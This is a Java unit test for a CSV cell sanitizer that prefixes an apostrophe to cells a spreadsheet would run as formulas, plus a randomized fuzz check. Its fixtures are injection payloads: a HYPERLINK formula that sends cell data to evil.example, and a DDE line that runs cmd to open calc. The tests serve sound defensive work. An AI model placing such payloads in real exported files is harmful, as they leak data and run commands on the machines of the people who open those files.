package org.aigov.observatory.kernel;

import static org.junit.jupiter.api.Assertions.*;

import java.util.Random;
import org.junit.jupiter.api.Test;

class CsvCellsTest {
  @Test
  void aCellThatASpreadsheetWouldRunIsMadeText() {
    assertEquals("'=HYPERLINK(\"http://evil.example/?\"&A1,\"see\")", CsvCells.text("=HYPERLINK(\"http://evil.example/?\"&A1,\"see\")"));
    assertEquals("'+cmd|' /C calc'!A0", CsvCells.text("+cmd|' /C calc'!A0"));
    assertEquals("'@SUM(1+1)", CsvCells.text("@SUM(1+1)"));
    assertEquals("'-2+3", CsvCells.text("-2+3"));
    assertEquals("'\t=1", CsvCells.text("\t=1"));
    assertEquals("Drone strike = war crime", CsvCells.text("Drone strike = war crime"));
    assertEquals("军用无人机", CsvCells.text("军用无人机"));
    assertEquals("", CsvCells.text(""));
    assertNull(CsvCells.text(null));
  }

  /** Random texts: changed only by one leading apostrophe, and never left starting with a formula character. */
  @Test
  void randomTextsKeepTheirContent() {
    Random r = new Random(20261201);
    String alphabet = "=+-@\t\r'a中 1\"";
    for (int i = 0; i < 20_000; i++) {
      StringBuilder sb = new StringBuilder();
      for (int k = r.nextInt(6); k > 0; k--) sb.append(alphabet.charAt(r.nextInt(alphabet.length())));
      String s = sb.toString(), t = CsvCells.text(s);
      assertTrue(t.equals(s) || t.equals("'" + s), s);
      assertFalse(!t.isEmpty() && "=+-@\t\r".indexOf(t.charAt(0)) >= 0, "starts a formula: " + t);
    }
  }
}
